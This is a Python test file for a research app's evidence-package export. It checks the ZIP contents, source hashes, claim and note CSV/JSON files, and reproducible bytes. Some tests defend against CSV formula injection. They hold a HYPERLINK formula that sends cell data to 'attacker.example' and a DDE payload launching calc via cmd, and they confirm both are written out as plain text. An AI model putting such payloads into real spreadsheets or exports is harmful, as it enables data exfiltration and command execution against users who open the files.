"""The evidence package: a report version as a ZIP with its cited sources, claims, notes and a
manifest, the same bytes every time."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import subprocess
import zipfile
from datetime import UTC, datetime

import pytest

from research.models import Claim, FetchStatus, Note, PageSnapshot, Passage, Report, Source
from research.output import bibliography, export, package, tables
from research.text import citations
from tests.factories import add_report, add_source, make_library_document, make_project
from tests.system import needs_libreoffice, needs_pango, soffice

pytestmark = [pytest.mark.django_db, needs_pango()]

WAL_TEXT = "Write-ahead logging lets readers continue while a writer commits.\nÜber 100 Seiten."
CHECKPOINT_TEXT = "A checkpoint moves pages from the WAL back into the database file. 检查点。"
FETCHED_AT = datetime(2025, 3, 4, 5, 6, 7, tzinfo=UTC)


def fetched_source(project, url: str, title: str, text: str, **fields) -> Source:
    snapshot = PageSnapshot.objects.create(url=url, title=title, text=text, fetched_at=FETCHED_AT)
    return add_source(
        project, url, title=title, snapshot=snapshot, fetch_status=FetchStatus.FETCHED, **fields
    )


def library_source(project) -> Source:
    document = make_library_document([("p. 7", "Checkpoints run every 1000 pages by default.")])
    passage = Passage.objects.get(document=document)
    snapshot = PageSnapshot.objects.create(
        url=f"/library/documents/{document.pk}/#passage-0",
        text=passage.text,
        fetched_at=FETCHED_AT,
        extractor="library",
    )
    return add_source(
        project,
        snapshot.url,
        title=f"{document.title}, p. 7",
        document=document,
        passage=passage,
        locator="p. 7",
        domain="library",
        snapshot=snapshot,
        fetch_status=FetchStatus.FETCHED,
    )


@pytest.fixture
def report(member) -> Report:
    """Version 2 of a report citing two web pages and a library passage; one more source and
    an older version are not cited by it."""
    project = make_project(member, question="How does SQLite WAL work?", title="SQLite WAL")
    wal = fetched_source(
        project, "https://www.sqlite.org/wal.html", "Write-Ahead Logging", WAL_TEXT
    )
    uncited = fetched_source(project, "https://example.org/other", "Other", "Not cited.")
    checkpoint = fetched_source(
        project, "https://example.org/cp", "检查点 Checkpoints", CHECKPOINT_TEXT
    )
    book = library_source(project)
    add_report(project, [uncited], version=1)
    cited = [wal, checkpoint, book]
    body = "Readers continue [1]. Checkpoints move pages [3], every 1000 pages [4].\n\n"
    report = add_report(project, cited, markdown=body + citations.references(cited), version=2)
    Note.objects.create(project=project, author=member, report=report, text="Check [4].")
    Note.objects.create(project=project, author=member, source=wal, text="Primary docs.")
    return report


def unzip(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def header_and_text(data: bytes) -> tuple[dict[str, str], str]:
    head, _, text = data.decode().partition("\n\n")
    lines = head.splitlines()
    fields = dict(line.split(": ", 1) for line in lines[1:])
    return {"title": lines[0], **fields}, text


def test_the_package_holds_the_report_its_cited_sources_claims_notes_and_a_manifest(report):
    files = unzip(package.evidence_zip(report))
    assert list(files) == sorted(files)
    assert set(files) == {
        "report.md",
        "report.pdf",
        "report.docx",
        "report.pptx",
        "report.html",
        "sources/01-write-ahead-logging.txt",
        "sources/03-checkpoints.txt",
        "sources/04-annual-report-2025-p-7.txt",
        "sources.csv",
        "claims.json",
        "claims.csv",
        "notes.json",
        "references.bib",
        "references.ris",
        "references.json",
        "manifest.json",
    }
    assert files["report.md"] == export.report_markdown(report).encode()
    sources = package.cited_sources(report)
    assert files["references.bib"] == bibliography.bibtex(sources).encode()
    assert files["references.json"] == bibliography.csl_json(sources).encode()
    assert files["report.pdf"] == export.report_pdf(report)
    assert files["report.docx"] == package.export_file(report, "docx")[0]
    assert files["report.pptx"] == package.export_file(report, "pptx")[0]
    assert files["report.html"] == package.export_file(report, "html")[0]


def test_each_source_file_names_its_origin_and_the_hash_of_its_text(report):
    files = unzip(package.evidence_zip(report))
    header, text = header_and_text(files["sources/01-write-ahead-logging.txt"])
    assert text == WAL_TEXT
    assert header["title"] == "Source [1]: Write-Ahead Logging"
    assert header["URL"] == "https://www.sqlite.org/wal.html"
    assert header["Fetched"] == "2025-03-04T05:06:07Z"
    assert header["SHA-256 of the text below"] == sha(WAL_TEXT.encode())
    _, text = header_and_text(files["sources/03-checkpoints.txt"])
    assert text == CHECKPOINT_TEXT


def test_a_library_source_names_its_document_and_locator(report):
    files = unzip(package.evidence_zip(report))
    header, text = header_and_text(files["sources/04-annual-report-2025-p-7.txt"])
    document = report.cited_sources.get(n=4).document
    assert header["Document"] == f"Annual report 2025 (library document {document.pk})"
    assert header["Locator"] == "p. 7"
    assert "URL" not in header
    assert text == "Checkpoints run every 1000 pages by default."
    assert header["SHA-256 of the text below"] == sha(text.encode())


def test_sources_csv_has_one_row_per_cited_source(report):
    files = unzip(package.evidence_zip(report))
    rows = list(csv.DictReader(io.StringIO(files["sources.csv"].decode())))
    assert [row["n"] for row in rows] == ["1", "3", "4"]
    assert list(rows[0]) == list(package.SOURCE_COLUMNS)
    for row in rows:
        header, text = header_and_text(files[row["file"]])
        assert row["sha256"] == sha(text.encode()) == header["SHA-256 of the text below"]
        assert row["fetched_at"] == "2025-03-04T05:06:07Z"
    assert rows[2]["document_id"] == str(report.cited_sources.get(n=4).document_id)
    assert (rows[2]["locator"], rows[0]["document_id"]) == ("p. 7", "")
    assert b"\r" not in files["sources.csv"]


def test_the_manifest_hashes_every_other_file_and_names_the_project(report):
    files = unzip(package.evidence_zip(report))
    manifest = json.loads(files["manifest.json"])
    assert manifest["files"] == {
        path: sha(data) for path, data in files.items() if path != "manifest.json"
    }
    assert manifest["version"] == 2
    assert manifest["project"]["question"] == "How does SQLite WAL work?"
    assert manifest["project"]["options"] == report.project.opts.model_dump(mode="json")


def test_notes_and_claims_are_in_the_package(report):
    files = unzip(package.evidence_zip(report))
    notes = json.loads(files["notes.json"])
    assert [(n["target"], n["text"]) for n in notes] == [
        (f"report:{report.pk}", "Check [4]."),
        (f"source:{report.cited_sources.get(n=1).pk}", "Primary docs."),
    ]
    assert json.loads(files["claims.json"]) == export.claim_rows(report) == []
    assert files["claims.csv"] == (",".join(export.CLAIM_COLUMNS) + "\n").encode()


def test_claims_csv_writes_one_row_per_claim_with_lists_spaced():
    row = {
        "sentence": 'Readers continue, "always" [1][3].',
        "citations": [1, 3],
        "source_ids": [10, 12],
        "quote": "readers continue",
        "quote_source_id": 10,
        "status": "supported",
        "reason": "",
        "review": "",
        "review_note": "",
    }
    lines = tables.to_csv(export.CLAIM_COLUMNS, [row]).decode().split("\n")
    assert (
        lines[1]
        == '"Readers continue, ""always"" [1][3].",1 3,10 12,readers continue,10,supported,,,'
    )
    assert lines[2:] == [""]


def test_the_same_version_gives_the_same_bytes(report):
    first = package.evidence_zip(report)
    second = package.evidence_zip(Report.objects.get(pk=report.pk))
    assert first == second
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        created = report.created_at.astimezone(UTC)
        for info in archive.infolist():
            assert info.date_time[:5] == (
                created.year,
                created.month,
                created.day,
                created.hour,
                created.minute,
            )
            assert info.external_attr >> 16 == 0o100644


def test_the_claims_of_a_checked_version_are_its_rows_in_order(report):
    cited = report.cited_sources.get(n=1)
    for position, status in ((1, "unsupported"), (0, "supported")):
        claim = Claim.objects.create(
            report=report,
            position=position,
            sentence=f"Sentence {position} [1].",
            citations=[1],
            quote="A quote." if status == "supported" else "",
            quote_source=cited if status == "supported" else None,
            status=status,
            reason="why",
        )
        claim.sources.set([cited])
    files = unzip(package.evidence_zip(report))
    rows = json.loads(files["claims.json"])
    assert [(r["sentence"], r["status"], r["source_ids"]) for r in rows] == [
        ("Sentence 0 [1].", "supported", [cited.pk]),
        ("Sentence 1 [1].", "unsupported", [cited.pk]),
    ]
    assert rows[0]["quote_source_id"] == cited.pk and rows[1]["quote_source_id"] is None
    assert files["claims.csv"].decode().splitlines()[1] == (
        f"Sentence 0 [1].,1,{cited.pk},A quote.,{cited.pk},supported,why,,"
    )


FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_a_spreadsheet_would_read_as_a_formula_is_written_as_text(start):
    row = {"sentence": f"{start}1+1", "citations": [1], "quote_source_id": -3, "status": "ok"}
    written = next(csv.DictReader(io.StringIO(tables.to_csv(export.CLAIM_COLUMNS, [row]).decode())))
    assert written["sentence"] == "'" + start.replace("\r", "\n") + "1+1"
    assert written["quote_source_id"] == "-3"  # a number stays a number
    assert written["status"] == "ok"


def _formula_source_report(member) -> Report:
    project = make_project(member, question="Who links?")
    source = fetched_source(project, "https://example.org/f", FORMULA, "Formula text here.")
    claim_text = "+cmd|' /C calc'!A0 [1]."
    report = add_report(project, [source], markdown=claim_text + "\n\n")
    Claim.objects.create(
        report=report, position=0, sentence=claim_text, citations=[1], status="supported"
    )
    return report


def test_a_source_titled_with_a_formula_comes_out_of_the_csvs_as_text(member):
    files = unzip(package.evidence_zip(_formula_source_report(member)))
    (source,) = csv.DictReader(io.StringIO(files["sources.csv"].decode()))
    assert source["title"] == "'" + FORMULA
    (claim,) = csv.DictReader(io.StringIO(files["claims.csv"].decode()))
    assert claim["sentence"] == "'+cmd|' /C calc'!A0 [1]."


@needs_libreoffice("a spreadsheet cannot open the evidence package's CSVs to look for formulas")
def test_a_spreadsheet_opening_the_csvs_finds_no_formula(member, tmp_path):
    files = unzip(package.evidence_zip(_formula_source_report(member)))
    for name in ("sources.csv", "claims.csv"):
        (tmp_path / name).write_bytes(files[name])
    profile = tmp_path / "profile"
    command = [str(soffice()), "--headless", f"-env:UserInstallation=file://{profile}"]
    command += ["--convert-to", "fods", "--outdir", str(tmp_path)]
    command += [str(tmp_path / name) for name in ("sources.csv", "claims.csv")]
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    for name in ("sources", "claims"):
        sheet = (tmp_path / f"{name}.fods").read_text()
        assert "table:formula" not in sheet, name
        assert "HYPERLINK" in sheet or "calc" in sheet  # the text is there, as text
